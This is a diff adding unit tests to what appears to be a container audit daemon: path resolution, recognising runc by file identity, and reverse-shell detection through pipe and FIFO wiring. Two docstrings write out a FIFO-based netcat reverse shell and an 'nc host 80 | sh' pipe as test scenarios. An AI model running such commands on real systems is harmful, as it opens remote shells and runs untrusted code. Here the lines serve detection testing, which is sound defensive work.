@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 
+from cauditd.containers.runtime_binaries import RuntimeBinaries
 from cauditd.events import (
     ContainerInfo,
     ExecEvent,
@@ -11,6 +12,7 @@ from cauditd.events import (
     FileEvent,
     ForkEvent,
     NetSyscallEvent,
+    StdioFd,
     SyscallEvent,
 )
 from cauditd.proctable import ProcessTable
@@ -104,3 +106,118 @@ def test_reexec_of_a_runc_without_an_exe_keeps_its_comm() -> None:
     table.apply(again)
     assert again.process is not None
     assert again.process.exe == "" and again.process.name == "runc:[1:CHILD]"
+
+
+def test_relative_paths_join_the_directory_the_kernel_reported() -> None:
+    table = ProcessTable()
+    table.apply(ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/sh"))
+    unlink = FileEvent(type="unlinkat", ts_ns=2, container=C, pid=GONE, path="../shadow",
+                       base="/etc/x", dirfd=3)
+    table.apply(unlink)
+    assert (unlink.path, unlink.raw_path) == ("/etc/shadow", "")
+    opened = FileEvent(type="openat", ts_ns=3, container=C, pid=GONE, path="/etc/shadow",
+                       raw_path="/tmp/e/shadow", resolved=True)
+    table.apply(opened)
+    assert opened.path == "/etc/shadow"  # the kernel's answer stands
+
+
+def test_chdir_takes_the_cwd_the_kernel_resolved() -> None:
+    table = ProcessTable()
+    table.apply(ExecEvent(type="execve", ts_ns=1, container=C, pid=GONE, exe="/bin/sh"))
+    for evt_type, args in (("chdir", {"path": "e", "cwd": "/etc"}),
+                           ("fchdir", {"fd": 3, "cwd": "/var/log"})):
+        table.apply(SyscallEvent(type=evt_type, ts_ns=2, container=C, pid=GONE, args=args))
+        proc = table.get(GONE)
+        assert proc is not None and proc.cwd == args["cwd"]
+
+
+RUNC_ID = (5 << 20, 77)
+
+
+def runtime_table() -> ProcessTable:
+    return ProcessTable(runtimes=RuntimeBinaries(frozenset({RUNC_ID})))
+
+
+def exec_of(pid: int, filename: str, exe: str, ino: int, **kw: object) -> ExecEvent:
+    return ExecEvent(type="execve", ts_ns=pid, container=C, pid=pid, exe=exe, filename=filename,
+                     exe_dev=RUNC_ID[0], exe_ino=ino, argv=(filename.rsplit("/", 1)[-1],),
+                     comm=filename.rsplit("/", 1)[-1], **kw)  # type: ignore[arg-type]
+
+
+def test_the_runtime_is_known_by_identity_not_by_name() -> None:
+    table = runtime_table()
+    runc = exec_of(GONE, "/usr/sbin/runc", "/usr/sbin/runc", RUNC_ID[1])
+    named = exec_of(GONE + 1, "/tmp/runc", "/tmp/runc", 99)
+    for ev in (runc, named):
+        table.apply(ev)
+    assert runc.process is not None and runc.process.is_container_runtime
+    assert named.process is not None and not named.process.is_container_runtime
+    assert named.process.name == "runc"  # named so, and nothing more
+    again = exec_of(GONE, "/proc/self/exe", "/memfd:runc_cloned:/proc/self/exe", 5)
+    table.apply(again)  # runc re-executing its sealed copy stays the runtime
+    assert again.process is not None and again.process.is_container_runtime
+    assert again.process.name == "runc"
+    entry = exec_of(GONE, "/bin/sh", "/bin/busybox", 6)
+    table.apply(entry)  # ... until it runs the container's entrypoint
+    assert entry.process is not None and not entry.process.is_container_runtime
+    foreign = exec_of(GONE + 2, "/usr/local/bin/crun", "/usr/local/bin/crun", 7,
+                      exe_foreign_mnt_ns=True)
+    table.apply(foreign)  # a runtime's name on another mount namespace's mount
+    assert foreign.process is not None and foreign.process.is_container_runtime
+
+
+def test_a_runtime_first_met_by_a_syscall_is_known_by_the_records_identity() -> None:
+    table = runtime_table()
+    opened = FileEvent(type="openat", ts_ns=1, container=C, pid=GONE, path="/proc/self/x")
+    table.apply(opened)  # opens carry no identity: undecided (/proc has nothing on GONE)
+    fork = ForkEvent(type="clone", ts_ns=2, container=C, pid=GONE, child_pid=GONE + 1,
+                     exe_dev=RUNC_ID[0], exe_ino=RUNC_ID[1])
+    table.apply(fork)
+    child = table.get(GONE + 1)
+    assert fork.process is not None and fork.process.is_container_runtime
+    assert child is not None and child.is_container_runtime  # runc's stages are its clones
+    other = SyscallEvent(type="unshare", ts_ns=3, container=C, pid=GONE + 5, exe_dev=1,
+                         exe_ino=2)
+    table.apply(other)
+    assert other.process is not None and not other.process.is_container_runtime
+
+
+def pipe(n: int) -> StdioFd:
+    return StdioFd("pipe", (15, n))
+
+
+TTY = StdioFd("file")
+
+
+def test_a_shell_wired_to_the_network_through_a_fifo_and_pipes() -> None:
+    """mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f"""
+    table = ProcessTable()
+    fifo = (50, 9000)
+    cat = exec_of(GONE, "/bin/cat", "/bin/busybox", 1, stdio=(TTY, pipe(1), TTY))
+    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 1, stdio=(pipe(1), pipe(2), pipe(2)))
+    nc = exec_of(GONE + 2, "/usr/bin/nc", "/bin/busybox", 1,
+                 stdio=(pipe(2), StdioFd("pipe", fifo), TTY))
+    for ev in (cat, shell, nc):
+        table.apply(ev)
+    fifo_open = FileEvent(type="openat", ts_ns=5, container=C, pid=GONE, path="/tmp/f",
+                          resolved=True, ret=3, file_mode=0o10644, dev=fifo[0], ino=fifo[1])
+    table.apply(fifo_open)
+    assert shell.process is not None and shell.process.stdio_wired == ()  # nothing networked
+    connect = NetSyscallEvent(type="connect", ts_ns=6, container=C, pid=GONE + 2, fd=3,
+                              family=2, addr="10.0.0.1", port=4444, ret=-115)
+    table.apply(connect)
+    assert connect.process is not None and "sh" in connect.process.stdio_wired
+    assert shell.process.stdio_wired == connect.process.stdio_wired
+
+
+def test_a_pipe_into_a_shell_is_not_a_reverse_shell() -> None:
+    """`nc host 80 | sh` (curl | sh): the network feeds the shell, nothing networked reads it;
+    `echo id | sh`: nothing networked at all."""
+    table = ProcessTable()
+    nc = exec_of(GONE, "/usr/bin/nc", "/bin/busybox", 1, stdio=(TTY, pipe(7), TTY))
+    shell = exec_of(GONE + 1, "/bin/sh", "/bin/busybox", 1, stdio=(pipe(7), pipe(8), pipe(8)))
+    for ev in (nc, shell):
+        table.apply(ev)
+    table.apply(NetSyscallEvent(type="connect", ts_ns=3, container=C, pid=GONE, fd=3, family=2,
+                                addr="10.0.0.1", port=80))
+    assert shell.process is not None and shell.process.stdio_wired == ()
